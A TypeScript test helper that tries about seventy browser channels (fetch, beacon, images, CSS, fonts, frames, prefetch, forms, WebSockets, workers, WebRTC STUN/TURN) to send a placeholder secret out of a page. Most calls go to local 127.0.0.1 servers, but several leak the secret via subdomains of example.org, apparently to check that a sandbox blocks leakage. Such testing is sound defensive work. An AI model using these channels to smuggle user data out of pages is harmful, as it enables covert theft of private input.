/** Local addresses that one way out is tried against: a web server and a UDP socket of its own. */
export interface Target {
  readonly tcp: number;
  readonly udp: number;
}

/**
 * Tries every way of a page to send something, each to the target of the same index, and resolves with their names once
 * all had time to send; without targets, nothing is tried. It runs in a page, so it uses nothing from outside.
 */
export async function tryWaysOut(targets: readonly Target[]): Promise<readonly string[]> {
  const secret = 'typed-by-the-user';
  const add = <Name extends keyof HTMLElementTagNameMap>(
    name: Name,
    attributes: Readonly<Record<string, string>>,
    inside: Element = document.body,
  ) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    inside.append(element);
    return element;
  };
  const addSvg = (name: string, attributes: Readonly<Record<string, string>>, inside?: Element) => {
    const namespace = 'http://www.w3.org/2000/svg';
    const svg = inside ?? document.body.appendChild(document.createElementNS(namespace, 'svg'));
    const element = svg.appendChild(document.createElementNS(namespace, name));
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    return element;
  };
  const worker = (source: string) => new Worker(URL.createObjectURL(new Blob([source])));
  const styled = (css: string) => {
    add('style', {}).textContent = css;
    add('p', { class: 'probe' }).textContent = 'x';
  };
  const connect = async (server: RTCIceServer | undefined, candidate?: string) => {
    const connection = new RTCPeerConnection(server ? { iceServers: [server] } : {});
    connection.createDataChannel('probe');
    await connection.setLocalDescription(await connection.createOffer());
    if (candidate === undefined) return;
    const other = new RTCPeerConnection();
    await other.setRemoteDescription(connection.localDescription!);
    await other.setLocalDescription(await other.createAnswer());
    await connection.setRemoteDescription(other.localDescription!);
    await connection.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 });
  };
  const login = { username: secret, credential: secret };

  const ways: Record<string, (url: string, target: Target) => unknown> = {
    fetch: (url) => fetch(url, { mode: 'no-cors' }),
    'fetch with keepalive': (url) =>
      fetch(url, { mode: 'no-cors', method: 'POST', body: secret, keepalive: true }),
    XMLHttpRequest: (url) => {
      const request = new XMLHttpRequest();
      request.open('POST', url);
      request.send(secret);
    },
    beacon: (url) => navigator.sendBeacon(url, secret),
    image: (url) => add('img', { src: url }),
    'image set': (url) => add('img', { srcset: `${url} 1x`, src: '' }),
    picture: (url) => {
      const picture = add('picture', {});
      add('source', { srcset: url }, picture);
      add('img', { src: '' }, picture);
    },
    'image button': (url) => add('input', { type: 'image', src: url }),
    'Image()': (url) => (new Image().src = url),
    'background attribute': (url) => add('body', { background: url }),
    'style attribute': (url) => (add('p', {}).style.backgroundImage = `url(${url})`),
    'style element': (url) => styled(`.probe { background: url(${url}) }`),
    'style mask': (url) => (add('p', {}).style.cssText = `-webkit-mask-image: url(${url})`),
    'style list marker': (url) => (add('li', {}).style.listStyleImage = `url(${url})`),
    'style content': (url) => styled(`.probe::after { content: url(${url}) }`),
    'style import': (url) => styled(`@import url(${url});`),
    'style sheet': (url) => add('link', { rel: 'stylesheet', href: url }),
    'constructed style sheet': (url) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`p { border-image-source: url(${url}) }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
      add('p', {});
    },
    font: (url) => {
      styled(`@font-face { font-family: probe; src: url(${url}) } .probe { font-family: probe }`);
      return document.fonts.load('12px probe');
    },
    'FontFace()': (url) => new FontFace('other', `url(${url})`).load(),
    video: (url) => add('video', { src: url, preload: 'auto' }),
    'video poster': (url) => add('video', { poster: url }),
    audio: (url) => add('audio', { src: url, preload: 'auto' }),
    'text track': (url) => {
      const video = add('video', { crossorigin: '' });
      const track = add('track', { src: url, kind: 'subtitles', default: '' }, video);
      (track as HTMLTrackElement).track.mode = 'showing';
    },
    frame: (url) => add('iframe', { src: url }),
    'frame location': (url) => (add('iframe', {}).contentWindow!.location.href = url),
    'meta refresh in a frame': (url) =>
      add('iframe', { srcdoc: `<meta http-equiv="refresh" content="0;url=${url}">` }),
    'image in a frame': (url) => add('iframe', { srcdoc: `<img src="${url}">` }),
    object: (url) => add('object', { data: url, type: 'text/html' }),
    embed: (url) => add('embed', { src: url, type: 'text/html' }),
    prefetch: (url) => add('link', { rel: 'prefetch', href: url }, document.head),
    prerender: (url) => add('link', { rel: 'prerender', href: url }, document.head),
    preconnect: (url) => add('link', { rel: 'preconnect', href: url }, document.head),
    'DNS prefetch': () =>
      add('link', { rel: 'dns-prefetch', href: `//${secret}.example.org` }, document.head),
    preload: (url) => add('link', { rel: 'preload', as: 'image', href: url }, document.head),
    'module preload': (url) => add('link', { rel: 'modulepreload', href: url }, document.head),
    icon: (url) => add('link', { rel: 'icon', href: url }, document.head),
    'speculation rules': (url) =>
      (add('script', { type: 'speculationrules' }, document.head).textContent = JSON.stringify({
        prefetch: [{ source: 'list', urls: [url] }],
      })),
    form: (url) => {
      add('iframe', { name: 'answer' });
      const form = add('form', { action: url, method: 'post', target: 'answer' });
      add('input', { name: 'text', value: secret }, form);
      form.submit();
    },
    'window.open': (url) => window.open(url),
    'link ping': (url) => add('a', { href: '#', ping: url }).click(),
    'download link': (url) =>
      add('a', { href: url, download: '', target: add('iframe', { name: 'download' }).name }).click(),
    WebSocket: (url) => new WebSocket(url.replace('http', 'ws')),
    WebTransport: (_url, { udp }) => new WebTransport(`https://127.0.0.1:${udp}/${secret}`),
    EventSource: (url) => new EventSource(url),
    'fetch in a worker': (url) => worker(`fetch('${url}', { mode: 'no-cors' })`),
    importScripts: (url) => worker(`importScripts('${url}')`),
    'module worker': (url) =>
      new Worker(URL.createObjectURL(new Blob([`import '${url}'`], { type: 'text/javascript' })), {
        type: 'module',
      }),
    script: (url) => add('script', { src: url }),
    'dynamic import': (url) => import(/* @vite-ignore */ url),
    'audio worklet': (url) => new AudioContext().audioWorklet.addModule(url),
    'SVG image': (url) => addSvg('image', { href: url, width: '9', height: '9' }),
    'SVG filter': (url) => {
      const filter = addSvg('filter', { id: 'probe-filter' });
      addSvg('feImage', { href: url }, filter);
      addSvg('rect', { width: '9', height: '9', filter: 'url(#probe-filter)' }, filter.parentElement!);
    },
    'SVG use': (url) => addSvg('use', { href: `${url}#part` }),
    STUN: (_url, { udp }) => connect({ urls: `stun:127.0.0.1:${udp}` }),
    'STUN by name': () => connect({ urls: `stun:${secret}.example.org:3478` }),
    'TURN over UDP': (_url, { udp }) => connect({ urls: `turn:127.0.0.1:${udp}`, ...login }),
    'TURN over TCP': (_url, { tcp }) => connect({ urls: `turn:127.0.0.1:${tcp}?transport=tcp`, ...login }),
    'TURN over TLS': (_url, { tcp }) => connect({ urls: `turns:127.0.0.1:${tcp}?transport=tcp`, ...login }),
    'UDP peer': (_url, { udp }) =>
      connect(undefined, `candidate:1 1 udp 2122260223 127.0.0.1 ${udp} typ host`),
    'TCP peer': (_url, { tcp }) =>
      connect(undefined, `candidate:1 1 tcp 1518280447 127.0.0.1 ${tcp} typ host tcptype passive`),
    'image by name': () => add('img', { src: `http://${secret}.example.org/` }),
    'fetch by name': () => fetch(`https://${secret}.example.org/`, { mode: 'no-cors' }),
    // The last one, as it replaces the page wherever it isn't prevented.
    location: (url) => (location.href = url),
  };

  const pause = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds));
  const names = Object.keys(ways);
  for (const [index, target] of targets.slice(0, names.length).entries()) {
    const name = names[index]!;
    if (name === 'location') await pause(4000);
    try {
      const tried = ways[name]!(`http://127.0.0.1:${target.tcp}/${secret}`, target);
      void Promise.resolve(tried).catch(() => undefined);
    } catch {
      // Refused at once, which is as good.
    }
  }
  if (targets.length > 0) await pause(1500);
  return names;
}
